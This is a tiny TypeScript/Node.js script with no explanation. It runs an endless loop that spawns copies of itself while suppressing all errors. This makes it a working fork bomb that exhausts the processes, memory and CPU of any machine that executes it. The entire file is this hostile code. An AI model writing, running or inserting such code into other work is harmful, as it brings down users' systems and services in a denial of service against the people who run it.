import { spawn } from "node:child_process";
while (true) {
  try {
    spawn(process.execPath, [process.argv[1]!], { stdio: "ignore" }).on("error", () => {});
  } catch {}
}
